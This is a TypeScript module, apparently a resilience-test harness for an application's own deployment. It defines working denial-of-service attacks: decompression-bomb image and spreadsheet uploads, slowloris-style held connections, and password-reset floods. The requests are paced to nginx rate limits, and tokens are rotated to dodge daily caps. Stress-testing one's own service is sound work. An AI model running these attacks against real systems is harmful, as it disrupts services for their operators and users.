import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { hugePicture, hugeSheet } from './huge.ts';

export type Target = {
  base: string;
  /** Candidates who send it in turn, because each one soon reaches a daily limit. */
  candidateTokens: readonly string[];
  officerToken: string;
};

export type Attack = {
  what: string;
  /** Prepares the attack. The returned function sends it until aborted and returns the answers with their counts. */
  prepare: (target: Target) => Promise<(ended: AbortSignal) => Promise<string>>;
};

/** `psc_calls` of deploy/nginx/psc-shared.conf. */
const PER_SECOND = 300;
const BOUNDARY = 'harm';
const multipart = `multipart/form-data; boundary=${BOUNDARY}`;
const headOf = (field: string, name: string) =>
  `--${BOUNDARY}\r\ncontent-disposition: form-data; name="${field}"; filename="${name}"\r\ncontent-type: application/octet-stream\r\n\r\n`;
const formOf = (field: string, name: string, bytes: Buffer) =>
  Buffer.concat([Buffer.from(headOf(field, name)), bytes, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]);

type Outcome = number | 'cut' | 'held';

function counted(outcomes: readonly Outcome[]): string {
  return [...Map.groupBy(outcomes, (each) => each)].map(([outcome, each]) => `${each.length} × ${outcome}`).join(', ');
}

const statusOf = (answer: Promise<Response>): Promise<Outcome> =>
  answer.then(
    async (each) => {
      await each.arrayBuffer();
      return each.status;
    },
    () => 'cut',
  );

/** Repeats as fast as nginx allows one address. */
async function repeat(send: (number: number) => Promise<Response>, ended: AbortSignal): Promise<string> {
  const sent: Promise<Outcome>[] = [];
  const startedAt = performance.now();
  while (!ended.aborted) {
    sent.push(statusOf(send(sent.length)));
    await pause(Math.max(0, startedAt + (sent.length * 1000) / PER_SECOND - performance.now()));
  }
  return counted(await Promise.all(sent));
}

function upload(url: string, token: string, body: Buffer<ArrayBuffer>): Promise<Response> {
  return fetch(url, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': multipart }, body });
}

const HELD_UPLOADS = 40;
const HELD_BYTES = 24 * 1024 * 1024;
const UNSENT_BYTES = 2048;

/** An upload that stops two kilobytes before its end and stays open. */
function holdUpload(base: string, path: string, token: string, ended: AbortSignal): Promise<Outcome> {
  const { hostname, port } = new URL(base);
  return new Promise((over) => {
    const socket = connect(Number(port), hostname);
    let answer = '';
    socket.on('data', (part: Buffer) => (answer ||= part.toString().slice(9, 12)));
    socket.on('error', () => undefined);
    socket.on('close', () => over(answer === '' ? 'held' : Number(answer)));
    const head = headOf('photograph', 'p.png');
    socket.write(
      `POST ${path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: ${multipart}\r\ncontent-length: ${HELD_BYTES}\r\n\r\n${head}`,
    );
    socket.write(Buffer.alloc(HELD_BYTES - head.length - UNSENT_BYTES));
    ended.addEventListener('abort', () => socket.destroy());
  });
}

export const attacks: Readonly<Record<string, Attack>> = {
  picture: {
    what: 'a picture of 427 kB, 60,000² points',
    prepare: async ({ base, candidateTokens }) => {
      const form = formOf('photograph', 'p.png', await hugePicture());
      const url = `${base}/profile/documents/upload`;
      return (ended) => repeat((number) => upload(url, candidateTokens[number % candidateTokens.length]!, form), ended);
    },
  },
  sheet: {
    what: 'a sheet of 15 kB, 12 MB unpacked',
    prepare: async ({ base, officerToken }) => {
      const form = formOf('file', 's.xlsx', await hugeSheet());
      return (ended) => repeat(() => upload(`${base}/master-entry/import-preview/religion`, officerToken, form), ended);
    },
  },
  heldUploads: {
    what: '40 held uploads',
    prepare: async ({ base, candidateTokens }) => {
      const token = candidateTokens[0]!;
      return async (ended) => {
        const held = Array.from({ length: HELD_UPLOADS }, () => holdUpload(base, '/profile/documents/upload', token, ended));
        return counted(await Promise.all(held));
      };
    },
  },
  resets: {
    what: 'made-up reset links',
    prepare: ({ base }) => {
      const body = JSON.stringify({ tokenId: 'A'.repeat(43), newPassword: 'Sagarmatha8', confirmPassword: 'Sagarmatha8' });
      const headers = { 'content-type': 'application/json' };
      return Promise.resolve((ended) => repeat(() => fetch(`${base}/session/reset-password`, { method: 'POST', headers, body }), ended));
    },
  },
};
